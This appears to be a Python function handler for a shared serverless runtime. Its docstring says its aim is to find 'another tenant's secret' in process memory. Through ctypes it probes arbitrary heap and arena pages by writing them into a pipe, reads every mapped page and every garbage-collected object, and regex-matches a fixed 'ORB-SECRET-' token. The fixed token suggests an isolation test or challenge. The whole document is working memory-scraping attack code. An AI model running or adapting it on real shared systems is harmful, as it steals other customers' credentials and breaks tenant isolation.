"""Look for another tenant's secret in this process: every readable page
near the heap and the object arenas, and every object the collector knows.
A page is probed by writing it into a pipe (EFAULT, not a crash, when it is
not mapped)."""
import ctypes
import gc
import json
import os
import re

# Built from parts, so this file's own text never matches.
PATTERN = re.compile(b"ORB-" + b"SECRET-" + b"[0-9a-f]{32}")
PAGE = 4096


def _scan(libc, lo, hi, r, w, budget):
    found = set()
    addr = lo - lo % PAGE
    tail = b""  # the end of the page before, for a secret across a page boundary
    while addr < hi and budget[0] > 0:
        budget[0] -= 1
        n = libc.write(w, ctypes.c_void_p(addr), PAGE)
        if n == PAGE:
            data = tail + os.read(r, PAGE)
            found.update(m.group(0).decode() for m in PATTERN.finditer(data))
            tail = data[-64:]
        else:
            tail = b""
        addr += PAGE
    return found


def handler(event, context):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.sbrk.restype = ctypes.c_void_p
    r, w = os.pipe()
    found = set()
    budget = [120000]  # pages, about 470 MiB
    brk = libc.sbrk(0) or 0
    found |= _scan(libc, max(0, brk - (256 << 20)), brk, r, w, budget)
    for obj in (object(), b"x" * 600, [0] * 100, json, handler):
        base = id(obj)
        found |= _scan(libc, max(0, base - (64 << 20)), base + (64 << 20), r, w, budget)
    for obj in gc.get_objects():
        for value in (obj.values() if isinstance(obj, dict) else ()):
            if isinstance(value, (bytes, str)):
                raw = value.encode(errors="ignore") if isinstance(value, str) else value
                found.update(m.group(0).decode() for m in PATTERN.finditer(raw))
    return {"found": sorted(found), "pages_left": budget[0]}
